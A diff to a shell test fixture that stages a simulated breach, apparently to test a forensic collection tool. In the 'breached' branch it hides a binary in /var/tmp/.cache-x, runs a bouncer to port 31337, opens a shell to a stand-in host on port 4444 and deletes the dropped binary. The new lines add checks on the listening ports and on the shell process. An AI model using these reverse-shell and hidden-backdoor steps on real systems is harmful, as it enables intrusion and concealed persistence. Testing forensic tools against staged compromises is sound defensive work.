@@ -24,15 +24,15 @@ scenario_live() {
 	./channel serve 192.0.2.80 22 &
 	./channel serve 198.51.100.23 6667 &
 	./channel serve 203.0.113.66 4444 &
-	fixture_until grep -q ':1A0B .* 0A ' /proc/net/tcp
+	for _port in 0016 1A0B 115C; do fixture_until grep -q ":$_port .* 0A " /proc/net/tcp; done
 	if [ "$1" = breached ]; then
 		mount -t tmpfs none /var/tmp
 		mkdir /var/tmp/.cache-x
 		cp channel /var/tmp/.cache-x/bnc
 		/var/tmp/.cache-x/bnc bounce 198.51.100.23 6667 31337 &
 		./channel shell 203.0.113.66 4444 &
+		fixture_until fixture_runs "$!" "$(readlink -f /bin/sh)"
 		fixture_until test ! -e /var/tmp/.cache-x/bnc
-		fixture_until grep -q ':115C 01 ' /proc/net/tcp
 	fi
 	"$EXHIBIT_COLLECT" --quiet --profile live --exclude "$(pwd)/**" -o "$2" || [ $? -eq 1 ]
 }
